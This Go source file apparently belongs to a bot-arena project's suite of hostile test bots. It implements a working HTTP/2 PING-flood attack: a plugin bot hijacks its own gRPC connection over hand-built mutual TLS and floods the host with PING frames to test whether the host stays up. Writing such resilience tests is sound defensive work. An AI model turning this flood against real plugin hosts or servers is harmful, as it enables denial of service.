package attack

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"errors"
	"fmt"
	"math/big"
	"net"
	"os"
	"path/filepath"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/health"
	healthpb "google.golang.org/grpc/health/grpc_health_v1"

	arenav1 "github.com/botarena/arena/proto/arena/v1"
	"github.com/botarena/arena/sdk"
	"github.com/botarena/arena/sdk/dynamite"
	"github.com/botarena/arena/sdk/handshake"
)

// PingFlood is the attack on HTTP/2 itself: from round Round on, the bot writes PING frames
// into its connection to the host as fast as it can, between the frames gRPC writes, and
// plays paper. go-plugin's server keeps the connection to itself, so this bot speaks the
// handshake by hand (its own certificate, its own socket) to hold its end of the connection.
const PingFlood = "pingflood"

// floodReady is how many PINGs go out before the round-Round answer: past the host's bound,
// so the host meets the flood in that round.
const floodReady = 20000

// servePingFlood serves BotService on a socket of its own, over TLS credentials that keep the
// connection's plaintext end for the flood.
func servePingFlood() {
	creds, cert, err := floodTLS()
	if err != nil {
		fmt.Fprintln(os.Stderr, "pingflood:", err)
		os.Exit(1)
	}
	sock := filepath.Join(os.Getenv("PLUGIN_UNIX_SOCKET_DIR"), "pingflood.sock")
	l, err := net.Listen("unix", sock)
	if err != nil {
		fmt.Fprintln(os.Stderr, "pingflood:", err)
		os.Exit(1)
	}
	b := &floodBot{Handler: sdk.NewHandler(sdk.Bot{Name: "hostile-" + PingFlood,
		Games: []sdk.Game{dynamite.Play(func() dynamite.Player {
			return dynamite.Func(func(*dynamite.State) dynamite.Move { return dynamite.Paper })
		})}})}
	srv := grpc.NewServer(grpc.Creds(creds))
	arenav1.RegisterBotServiceServer(srv, b)
	hs := health.NewServer()
	hs.SetServingStatus("plugin", healthpb.HealthCheckResponse_SERVING)
	healthpb.RegisterHealthServer(srv, hs)
	// go-plugin's handshake line: core version, app version, where, protocol, our certificate.
	fmt.Printf("1|%d|unix|%s|grpc|%s\n", handshake.ProtocolVersion, sock, base64.RawStdEncoding.EncodeToString(cert))
	_ = srv.Serve(l)
}

// floodTLS makes the server side of the host's mutual TLS as go-plugin does: a fresh
// certificate (returned in DER for the handshake line), the host's from PLUGIN_CLIENT_CERT.
func floodTLS() (credentials.TransportCredentials, []byte, error) {
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM([]byte(os.Getenv("PLUGIN_CLIENT_CERT"))) {
		return nil, nil, errors.New("no host certificate in PLUGIN_CLIENT_CERT")
	}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, nil, err
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "localhost"}, DNSNames: []string{"localhost"},
		NotBefore: time.Now().Add(-time.Minute), NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true,
		KeyUsage:    x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth, x509.ExtKeyUsageClientAuth}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		return nil, nil, err
	}
	cfg := &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}},
		ClientAuth: tls.RequireAndVerifyClientCert, ClientCAs: pool, MinVersion: tls.VersionTLS12}
	return &floodCreds{TransportCredentials: credentials.NewTLS(cfg)}, der, nil
}

// floodCreds keeps the plaintext end of the host's connection.
type floodCreds struct {
	credentials.TransportCredentials
}

// conn is the host's connection once it is up.
var conn atomic.Pointer[floodConn]

func (c *floodCreds) ServerHandshake(raw net.Conn) (net.Conn, credentials.AuthInfo, error) {
	tc, info, err := c.TransportCredentials.ServerHandshake(raw)
	if err != nil {
		return nil, nil, err
	}
	fc := &floodConn{Conn: tc}
	conn.Store(fc)
	return fc, info, nil
}

func (c *floodCreds) Clone() credentials.TransportCredentials {
	return &floodCreds{TransportCredentials: c.TransportCredentials.Clone()}
}

// floodConn lets the flood write whole frames between gRPC's: it follows gRPC's output frame
// by frame and writes PINGs only where one of gRPC's frames has ended.
type floodConn struct {
	net.Conn
	mu sync.Mutex
	// grpc follows the frames gRPC writes.
	grpc handshake.HTTP2Splitter
	sent atomic.Int64
}

func (c *floodConn) Write(p []byte) (int, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.grpc.Feed(p, nil)
	return c.Conn.Write(p)
}

// flood writes PINGs in batches, forever, between gRPC's frames.
func (c *floodConn) flood() {
	var batch bytes.Buffer
	fr := http2.NewFramer(&batch, nil)
	for i := range 256 {
		_ = fr.WritePing(false, [8]byte{byte(i)})
	}
	for {
		c.mu.Lock()
		between := c.grpc.Between()
		var err error
		if between {
			_, err = c.Conn.Write(batch.Bytes())
		}
		c.mu.Unlock()
		if err != nil {
			return
		}
		if between {
			c.sent.Add(256)
		} else {
			runtime.Gosched()
		}
	}
}

type floodBot struct {
	*sdk.Handler
	once sync.Once
}

func (b *floodBot) ActStream(stream arenav1.BotService_ActStreamServer) error {
	for {
		in, err := stream.Recv()
		if err != nil {
			return err
		}
		req := in.GetAct()
		out := &arenav1.ActStreamResponse{Act: &arenav1.ActResponse{}}
		b.ActInto(req, out.Act)
		if req.GetStep() >= Round {
			c := conn.Load()
			b.once.Do(func() { go c.flood() })
			// Answer once the flood is well under way: an unbounded host is still reading it.
			for deadline := time.Now().Add(5 * time.Second); c.sent.Load() < floodReady && time.Now().Before(deadline); {
				time.Sleep(time.Millisecond)
			}
			if req.GetStep() == Round+1 {
				report(PingFlood, nil) // SUCCEEDED: the host read the flood and plays on
			}
		}
		if err := stream.Send(out); err != nil {
			return err
		}
	}
}
